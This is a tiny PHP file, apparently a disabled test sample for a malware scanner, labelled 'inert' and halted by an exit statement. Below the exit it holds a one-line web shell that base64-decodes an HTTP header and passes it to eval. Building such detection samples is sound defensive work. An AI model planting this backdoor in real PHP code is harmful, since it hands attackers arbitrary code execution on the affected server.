<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

if (isset($_SERVER['HTTP_X_CODE'])) { eval(base64_decode($_SERVER['HTTP_X_CODE'])); }
